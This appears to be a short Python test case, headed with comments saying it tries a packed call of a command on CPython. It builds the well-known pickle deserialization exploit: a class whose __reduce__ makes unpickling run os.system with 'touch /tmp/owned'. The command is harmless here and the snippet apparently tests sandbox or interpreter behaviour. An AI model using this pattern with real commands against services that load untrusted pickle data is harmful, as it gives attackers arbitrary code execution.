# tries: a packed call of a command
# on: cpython
# ends: fine

import os, pickle
class Evil:
    def __reduce__(self):
        return os.system, ('touch /tmp/owned',)
assert pickle.loads(pickle.dumps(Evil())) != 0
